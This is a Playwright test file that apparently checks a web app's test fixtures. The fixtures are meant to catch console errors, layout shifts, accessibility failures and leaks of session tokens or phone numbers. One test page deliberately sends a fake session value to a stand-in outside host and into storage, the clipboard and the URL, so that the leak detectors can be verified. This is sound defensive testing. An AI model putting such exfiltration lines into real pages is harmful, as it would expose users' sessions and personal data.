import { axe, expect, settle, test, withAndroidHost } from './fixtures.ts';
import { wrongAnswers } from './support/answers.ts';
import { openMadeUp } from './support/made-up.ts';
import { complaints } from './support/problems.ts';
import { changeAmount, repaymentOf } from './support/repayment.ts';

// the fixtures themselves: what they are supposed to notice, they notice. On a page that is no screen, so that screens may
// change.

test.describe('problems', () => {
  test('errors, dialogs, requests to elsewhere, and what the policy forbids', async ({ openScreen, problems }) => {
    problems.expect(
      /^csp: style-src-attr blocked inline/,
      /^console: Applying inline style violates/,
      'console: bad thing',
      'page error: Error: thrown',
      'page error: Error: rejected',
      'dialog: alert: hello',
      /^foreign request: http:\/\/elsewhere\.example\//,
      /^console: Failed to load resource/,
    );
    const scripts = [
      'console.error("bad thing")',
      'throw new Error("thrown")',
      'Promise.reject(new Error("rejected"))',
      'alert("hello")',
      'new Image().src = "http://elsewhere.example/x.png"',
    ];
    const policy =
      '<meta http-equiv="Content-Security-Policy" content="style-src \'none\'"><p style="color: red">x</p>';
    await openMadeUp(openScreen, policy + scripts.map((script) => `<script>${script}</script>`).join(''));
    await expect.poll(() => problems.complaints()).toEqual([]);
  });

  test('an answer that the contract does not allow', async ({ openScreen, sandbox }) => {
    changeAmount(sandbox, 'full', {} as number);
    await openScreen(repaymentOf('full'));
    await expect.poll(() => wrongAnswers.splice(0)).toEqual([expect.stringContaining('/repayAmount')]);
  });

  test('a shift of the layout', async ({ openScreen, problems }) => {
    problems.expect(/^layout shift: 0\.\d+ at \d+ ms: <p class="moved">/);
    const page = await openMadeUp(
      openScreen,
      '<div style="padding: 20px"><p class="moved" style="height: 300px">x</p></div>',
    );
    await settle(page);
    await page.evaluate("document.querySelector('.moved').insertAdjacentHTML('beforebegin', '<h1>late</h1>')");
  });

  test('but not a shift that a tap has caused; one that comes long after it counts', async ({
    openScreen,
    problems,
  }) => {
    problems.expect(/^layout shift: .*<button class="moved">/);
    const page = await openMadeUp(
      openScreen,
      '<button class="moved" onclick="document.body.insertAdjacentHTML(`afterbegin`, `<h1>y</h1>`)">x</button>',
    );
    await settle(page);
    await page.getByRole('button').tap();
    await expect(page.getByRole('heading')).toBeVisible();
    await settle(page);
    expect(problems.seen).toEqual([]);
    await page.evaluate(async () => {
      const end = performance.now() + 1000;
      for (let frames = 0; frames <= 60 || performance.now() < end; frames++) await new Promise(requestAnimationFrame);
      document.body.insertAdjacentHTML('afterbegin', '<h2>late</h2>');
    });
  });

  test('what nobody expected, and what did not happen', () => {
    const problem = 'console: bad';
    expect(complaints([problem], [])).toEqual(['console: bad']);
    expect(complaints([problem], ['bad'])).toEqual([]);
    expect(complaints([problem], [/^console/, /worse/])).toEqual(['expected, but did not happen: /worse/']);
  });

  for (const opened of ['openScreen', 'page'] as const) {
    test(`a problem that was not announced fails the test: ${opened}`, async ({ openScreen, page, problems }) => {
      test.fail();
      const one = opened === 'page' ? page : await openScreen('/__sandbox/log');
      await one.goto('/__sandbox/log');
      await one.evaluate("console.error('bad thing')");
      await expect.poll(() => problems.seen).toHaveLength(1);
    });
  }
});

test.describe('what leaves the browser', () => {
  test('a session or a phone where it must not be', async ({ openScreen, problems }) => {
    problems.expect(
      'leak: local storage has a session: a=secret-1',
      'leak: tab storage has a session: a={"s":"secret-1"}',
      'leak: local storage has a phone or account number: a=09171234567',
      'leak: console has a session: opened by secret-1',
      'leak: clipboard has a session: secret-1',
      /leak: own address has a phone or account number: .*\?to=09171234567/,
      /leak: referrer has a session: .*secret-1/,
      /leak: foreign request has a session: http:..elsewhere.example.\?s=secret-1/,
      'Failed to load resource',
    );
    problems.allow(/^foreign request: http:\/\/elsewhere\.example/);
    await openMadeUp(
      openScreen,
      `<meta name="referrer" content="unsafe-url"><script type="module">
        await fetch("/gateway/v3/x?sessionId=secret-1", { method: "POST", body: new URLSearchParams({ phone: "09171234567" }) });
        localStorage.setItem("a", "secret-1");
        sessionStorage.setItem("a", '{"s":"secret-1"}');
        localStorage.setItem("a", "09171234567");
        console.log("opened by", "secret-1");
        await navigator.clipboard.writeText("secret-1");
        await fetch("/gateway/v3/y?to=09171234567");
        new Image().src = "http://elsewhere.example/?s=secret-1";
        history.replaceState(null, "", "?sessionId=secret-1");
        await fetch("/gateway/v3/y");
      </script>`,
    );
    await expect.poll(() => problems.complaints()).toEqual([]);
  });

  test('but the session to the lender, and what was typed in its tab', async ({ openScreen, problems }) => {
    problems.expect('Failed to load resource');
    const page = await openMadeUp(openScreen, '<p>x</p>');
    await page.evaluate(async () => {
      await fetch('/gateway/v3/x?sessionId=secret-1', {
        method: 'POST',
        body: new URLSearchParams({ phone: '09171234567' }),
      });
      sessionStorage.setItem('a', '09171234567');
      localStorage.setItem('a', 'secret-12 my-secret-1st');
    });
  });
});

test('axe names rule, element and reason, and lets a sound page pass', async ({ openScreen }) => {
  const sound = '<main><h1>x</h1><button type="button" style="font-size: 24px">Pay</button></main>';
  const page = await openMadeUp(openScreen, `${sound}<img src="data:," id="picture">`);
  await expect(axe(page)).rejects.toThrow(/image-alt: [\s\S]*#picture[\s\S]*alt attribute/);
  await axe(page, { exclude: ['#picture'] });
});

test('an Android host takes strings, on its object', async ({ openScreen }) => {
  const host = withAndroidHost();
  const page = await openMadeUp(openScreen, '', { host });
  const errors = await page.evaluate(() => {
    const { AppBridge: bridge } = window as unknown as { AppBridge: { to: (body: unknown) => void } };
    bridge.to('/home');
    const { to } = bridge;
    return [() => bridge.to({ a: 1 }), () => to('/home')].map((call) => {
      try {
        call();
        return 'accepted';
      } catch (error) {
        return (error as Error).message;
      }
    });
  });
  expect(errors).toEqual([expect.stringContaining('takes a string'), expect.stringContaining('on another object')]);
  await expect.poll(() => host.messages).toEqual([{ handler: 'to', body: '/home' }]);
});

test('a visitor: may like it dark, still and large', async ({ openScreen }) => {
  const page = await openMadeUp(openScreen, '<p>x</p>', { dark: true, reducedMotion: true, textSize: 2 });
  const seen = await page.evaluate(() => [
    matchMedia('(prefers-color-scheme: dark)').matches,
    matchMedia('(prefers-reduced-motion: reduce)').matches,
    getComputedStyle(window.document.documentElement).fontSize,
  ]);
  expect(seen).toEqual([true, true, '32px']);
});
